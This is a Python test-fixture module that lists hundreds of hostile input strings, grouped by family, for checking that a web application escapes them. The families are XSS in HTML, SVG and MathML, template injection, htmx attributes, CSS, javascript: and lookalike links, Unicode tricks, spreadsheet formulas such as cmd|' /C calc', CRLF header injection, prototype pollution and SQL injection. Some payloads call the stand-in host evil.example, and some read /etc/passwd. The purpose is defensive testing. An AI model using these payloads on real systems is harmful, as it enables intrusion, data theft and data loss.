"""Texts of attackers, of our own writing: what a customer, a model, a tool or a colleague could send to be shown.

`{n}` becomes the payload's number; `canary(N)` is the function that must never be called, `/canary-N` an address that
must never be asked for, and `c0N` the mark by which a text is found again on a page. Each family attacks another place:
HTML text, an attribute, SVG and MathML, templates, htmx, CSS, links, Unicode, sheets, streams and headers, JSON.
"""

import re
from dataclasses import dataclass

FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>canary({n})</script>",
        "<ScRiPt>canary({n})</sCrIpT>",
        "<script src=/canary-{n}></script>",
        "<script src=//evil.example/canary-{n}.js></script>",
        "<script type=module>canary({n})</script>",
        '<script nonce="">canary({n})</script>',
        '</script><script>canary({n})</script>',
        "<script\n>canary({n})</script\n>",
        "<script/x>canary({n})</script>",
        "<scr<script>ipt>canary({n})</scr</script>ipt>",
        "<noscript><p title=\"</noscript><script>canary({n})</script>\">",
        "</title><script>canary({n})</script>",
        "</textarea><script>canary({n})</script>",
        "</style><script>canary({n})</script>",
        "--><script>canary({n})</script><!--",
        "]]><script>canary({n})</script>",
        "<![CDATA[<script>canary({n})</script>]]>",
        "<template><script>canary({n})</script></template>",
        "&lt;script&gt;canary({n})&lt;/script&gt;",
        "&#60;script&#62;canary({n})&#60;/script&#62;",
        "%3Cscript%3Ecanary({n})%3C/script%3E",
        "\\u003cscript\\u003ecanary({n})\\u003c/script\\u003e",
        "\\x3cscript\\x3ecanary({n})\\x3c/script\\x3e",
        "+ADw-script+AD4-canary({n})+ADw-/script+AD4-",
    ),
    "element": (
        "<img src=x onerror=canary({n})>",
        '<img src="/canary-{n}">',
        "<img src=x onerror=canary&lpar;{n}&rpar;>",
        "<img/src=x/onerror=canary({n})//",
        "<body onload=canary({n})>",
        "<video><source onerror=canary({n})></video>",
        "<audio src=x onerror=canary({n})></audio>",
        "<input autofocus onfocus=canary({n})>",
        "<select autofocus onfocus=canary({n})><option>x</select>",
        "<details open ontoggle=canary({n})><summary>x</summary></details>",
        "<marquee onstart=canary({n})>x</marquee>",
        "<iframe src=javascript:canary({n})></iframe>",
        '<iframe srcdoc="<script>parent.canary({n})</script>"></iframe>',
        "<object data=/canary-{n}></object>",
        "<embed src=/canary-{n}>",
        "<base href=//evil.example/canary-{n}/>",
        '<meta http-equiv=refresh content="0;url=/canary-{n}">',
        "<link rel=stylesheet href=/canary-{n}>",
        "<link rel=prefetch href=//evil.example/canary-{n}>",
        "<form action=/canary-{n}><button autofocus>go</button></form>",
        '<form id=csrf><input name=csrf value="canary-{n}"></form>',
        "<button formaction=/canary-{n} popovertarget=x>go</button>",
        '<div popover id=stop onbeforetoggle="canary({n})">x</div>',
        "<dialog open id=palette>canary-{n}</dialog>",
        "<portal src=/canary-{n}></portal>",
        "<table background=/canary-{n}><td>x</td></table>",
        "<a href=/x id=announce name=keys>canary-{n}</a>",
        "<plaintext>canary-{n}",
        "<xmp><p title='</xmp><img src=x onerror=canary({n})>'>",
        "<!--[if IE]><script>canary({n})</script><![endif]-->",
    ),
    "attribute": (
        '" onmouseover="canary({n})" x="',
        "' onmouseover='canary({n})' x='",
        '" autofocus onfocus=canary({n}) x="',
        '"><img src=x onerror=canary({n})>',
        "'><img src=x onerror=canary({n})>",
        "`><img src=x onerror=canary({n})>",
        '"/><svg onload=canary({n})>',
        '" style="position:fixed;inset:0" data-canary="{n}',
        '" hx-get="/canary-{n}" hx-trigger="load" x="',
        '" data-act="global.stop" data-canary="{n}',
        '" accesskey="x" onclick="canary({n})',
        "x onmouseover=canary({n}) y=",
        "&quot; onfocus=&quot;canary({n})&quot; autofocus x=&quot;",
        "&#34; onfocus=&#34;canary({n})&#34; autofocus x=&#34;",
        "\\\" onfocus=\\\"canary({n})\\\" autofocus x=\\\"",
        '" slot="x" is="x-canary-{n}',
    ),
    "svg": (
        "<svg onload=canary({n})></svg>",
        "<svg><script>canary({n})</script></svg>",
        "<svg><script href=/canary-{n} /></svg>",
        "<svg><animate onbegin=canary({n}) attributeName=x dur=1s>",
        "<svg><set onbegin=canary({n}) attributeName=x to=1>",
        "<svg><a xlink:href=javascript:canary({n})><text y=9>x</text></a></svg>",
        "<svg><use href=/canary-{n}#x></use></svg>",
        "<svg><image href=/canary-{n}></image></svg>",
        "<svg><foreignObject><img src=x onerror=canary({n})></foreignObject></svg>",
        "<svg><style>@import '/canary-{n}';</style></svg>",
        "<svg><title><style><img src=x onerror=canary({n})></style></title></svg>",
        "<svg></p><style><a id=\"</style><img src=x onerror=canary({n})>\">",
        "<math><mtext><table><mglyph><style><img src=x onerror=canary({n})>",
        "<math href=javascript:canary({n})>x</math>",
        "<math><annotation-xml encoding=text/html><script>canary({n})</script></annotation-xml></math>",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM '/canary-{n}'>]><x>&e;</x>",
    ),
    "template": (
        "{{ 7 * 7 }} canary-{n}",
        "{{ view }} canary-{n}",
        "{{ page.visitor.token }} canary-{n}",
        "{{ config.items() }} canary-{n}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }} canary-{n}",
        "{% raw %}<script>canary({n})</script>{% endraw %}",
        "{% include '/etc/passwd' %} canary-{n}",
        "{% for x in range(999999999) %}x{% endfor %} canary-{n}",
        "{# canary-{n} #}",
        "${7*7} #{7*7} canary-{n}",
        "<%= 7 * 7 %> canary-{n}",
        "{{constructor.constructor('canary({n})')()}}",
        "%(name)s %s %d %n canary-{n}",
        "{0} {name} {rule.__class__} canary-{n}",
        "{{ x|safe }} {{ x|attr('y') }} canary-{n}",
        "$(canary-{n}) `canary-{n}` ; canary-{n} | canary-{n}",
    ),
    "htmx": (
        '<div hx-get="/canary-{n}" hx-trigger="load"></div>',
        '<div hx-post="/canary-{n}" hx-trigger="load"></div>',
        '<div data-hx-get="/canary-{n}" data-hx-trigger="load"></div>',
        '<div hx-get="/canary-{n}" hx-trigger="revealed" hx-target="body"></div>',
        '<div hx-get="/canary-{n}" hx-trigger="every 1s"></div>',
        '<div hx-on:click="canary({n})" hx-on::load="canary({n})">x</div>',
        "<div hx-on='load: canary({n})'>x</div>",
        '<div hx-vals="js:{x: canary({n})}" hx-get="/canary-{n}" hx-trigger="load"></div>',
        '<div hx-headers="js:{x: canary({n})}" hx-get="/canary-{n}" hx-trigger="load"></div>',
        '<div hx-vars="x:canary({n})" hx-get="/canary-{n}" hx-trigger="load"></div>',
        '<div hx-trigger="load[canary({n})]" hx-get="/canary-{n}"></div>',
        '<div hx-ext="sse" sse-connect="/canary-{n}" sse-swap="x"></div>',
        '<div hx-sse:connect="/canary-{n}"></div>',
        '<div hx-ws:connect="/canary-{n}"></div>',
        '<div hx-swap-oob="true" id="announce">canary-{n}</div>',
        '<hx-partial hx-target="body">canary-{n}</hx-partial>',
        '<template hx type="partial" hx-target="#announce">canary-{n}</template>',
        '<a hx-boost="true" href="/canary-{n}">x</a>',
        '<div hx-nonce="guessed" hx-get="/canary-{n}" hx-trigger="load"></div>',
        '<meta name="htmx-config" content=\'{"inlineScriptNonce":"x","canary":{n}}\'>',
        '<body hx-disable="false" hx-preload="/canary-{n}">',
        '<div data-live="approvals" data-canary="{n}"></div>',
        '<div x-data x-init="canary({n})" v-on:load="canary({n})" ng-init="canary({n})">x</div>',
        '<button data-act="approvals.approve" data-submits data-canary="{n}">x</button>',
    ),
    "css": (
        "<style>body{display:none}</style> canary-{n}",
        "<style>@import '/canary-{n}';</style>",
        "<p style=background:url(/canary-{n})>x</p>",
        '<p style="width:expression(canary({n}))">x</p>',
        "<p style='position:fixed;inset:0;z-index:9999' data-canary={n}>cover</p>",
        "input[name=csrf][value^=a]{background:url(/canary-{n})}",
        "};*{color:red}/* canary-{n} */",
        "<style>@font-face{font-family:x;src:url(//evil.example/canary-{n})}</style>",
        "</style><style>*{visibility:hidden}</style> canary-{n}",
        "<p class='sr-only btn pri danger' data-canary={n}>x</p>",
    ),
    "link": (
        "javascript:canary({n})",
        "JaVaScRiPt:canary({n})",
        "java\tscript:canary({n})",
        "\x01javascript:canary({n})",
        "javascript://%0acanary({n})",
        "data:text/html,<script>canary({n})</script>",
        "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg== canary-{n}",
        "vbscript:canary({n})",
        "blob:null/canary-{n}",
        "//evil.example/canary-{n}",
        "/\\evil.example/canary-{n}",
        "https://evil.example/canary-{n}",
        "https://console.example@evil.example/canary-{n}",
        "https://\u0430pple.example/canary-{n}",
        "https://xn--pple-43d.example/canary-{n}",
        "http://127.0.0.1:1/canary-{n}",
        "file:///etc/passwd canary-{n}",
        "[press](javascript:canary({n}))",
        "![x](//evil.example/canary-{n}.png)",
        "<https://evil.example/canary-{n}>",
        "../../../../canary-{n}",
        "..%2f..%2fcanary-{n}",
        "?part=nav&canary={n}#canary",
    ),
    "unicode": (
        "\u202egnp.{n}-yranac\u202c canary-{n}",
        "\u2066\u2067canary-{n}\u2069",
        "\u200b\u200c\u200d\ufeffcanary-{n}",
        "\u200fcanary-{n}\u200e",
        "a" + "\u0301" * 60 + " canary-{n}",
        "\u0430\u0440\u0440r\u043eve canary-{n}",
        "\uff1cscript\uff1ecanary({n})\uff1c/script\uff1e",
        "\u02c2script\u02c3canary({n})\u02c2/script\u02c3",
        "\u2028canary-{n}\u2029",
        "\ufdfd\ufdfd\ufdfd canary-{n}",
        "\U000e0001\U000e0063\U000e0061\U000e006e canary-{n}",
        "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 canary-{n}",
        "\u115f\u1160\u3164canary-{n}",
        "\u00a0\u2003\u3000canary-{n}",
        "\u0130\u0131\ufb01\u017f canary-{n}",
        "\uffff\ufffe\ufffd canary-{n}",
        "\u0645\u0631\u062d\u0628\u0627 canary-{n} \u05e9\u05dc\u05d5\u05dd",
    ),
    "size": (
        "W" * 600 + " canary-{n}",
        "canary-{n}-" + "x" * 180,
        "<b>" * 120 + " canary-{n}",
        "&amp;" * 120 + " canary-{n}",
        "canary-{n} " + "\n" * 80 + "end",
        "canary-{n} " + " " * 400 + "end",
        "canary-{n} " + "\u0e01\u0e33" * 200,
        "canary-{n} " + "9" * 400,
    ),
    "sheet": (
        "=1+1+canary-{n}",
        "=HYPERLINK(\"//evil.example/canary-{n}\",\"press\")",
        "=cmd|' /C calc'!A0 canary-{n}",
        "+cmd|' /C calc'!A0 canary-{n}",
        "-2+3+cmd|' /C calc'!A0 canary-{n}",
        "@SUM(1+1)*cmd|' /C calc'!A0 canary-{n}",
        "\t=1+1 canary-{n}",
        "\r=1+1 canary-{n}",
        "\n=1+1 canary-{n}",
        " =1+1 canary-{n}",
        "\uff1d1+1 canary-{n}",
        "a,\"b\",=1+1\r\n=1+1,canary-{n}",
        "\";=1+1;\" canary-{n}",
        "%0A=1+1 canary-{n}",
    ),
    "stream": (
        "x\n\nevent: approvals\ndata: canary-{n}\n\n",
        "x\ndata: canary-{n}\nid: 999999999\n\n",
        "retry: 1\n\ncanary-{n}",
        "x\r\nSet-Cookie: handrail=canary-{n}\r\n\r\n",
        "x\r\nLocation: //evil.example/canary-{n}",
        "x\nContent-Security-Policy: default-src *; canary-{n}",
        "x\r\nHX-Redirect: /canary-{n}",
        "x%0d%0aHX-Trigger: canary-{n}",
        "\x00canary-{n}",
        "canary-{n}\x00<script>canary({n})</script>",
        "\x1b[2J\x1b]0;canary-{n}\x07",
        "\x7f\x08\x0bcanary-{n}",
    ),
    "json": (
        '"}],"canary":{n},"x":[{"',
        "\\\",\\\"role\\\":\\\"admin\\\",\\\"canary\\\":\\\"{n}",
        '{"__proto__":{"canary":{n}}}',
        '{"constructor":{"prototype":{"canary":{n}}}}',
        "</script><!-- {\"canary\":{n}} -->",
        "'; canary({n}); //",
        "\"; canary({n}); //",
        "\\'; canary({n}); //",
        "${canary({n})}",
        "`+canary({n})+`",
        "1;canary({n})",
        "' OR 1=1; DROP TABLE entry; -- canary-{n}",
        "%' OR canary LIKE '%{n}",
        "canary-{n}\" OR NEAR(x y) *",
    ),
}  # fmt: skip


@dataclass(frozen=True, slots=True)
class Hostile:
    """`mark`: found on a page that shows it, first in the text so that a cut leaves it."""

    number: int
    family: str
    text: str

    @property
    def mark(self) -> str:
        return f"c0{self.number:03d}"

    @property
    def marked(self) -> str:
        """With its mark behind; what must stand first stays first."""
        return f"{self.text} {self.mark}"

    @property
    def line(self) -> str:
        """For places that take one line of printable text: what they refuse is left out of it."""
        kept = "".join(char for char in self.text if char.isprintable() or char == " ")
        return f"{kept.strip()[:70]} {self.mark}"


CORPUS: tuple[Hostile, ...] = tuple(
    Hostile(number, family, text.replace("{n}", str(number)))
    for number, (family, text) in enumerate(
        ((family, text) for family, texts in FAMILIES.items() for text in texts), start=1
    )
)
MARK = re.compile(r"c0\d{3}")


def of(family: str) -> tuple[Hostile, ...]:
    return tuple(one for one in CORPUS if one.family == family)
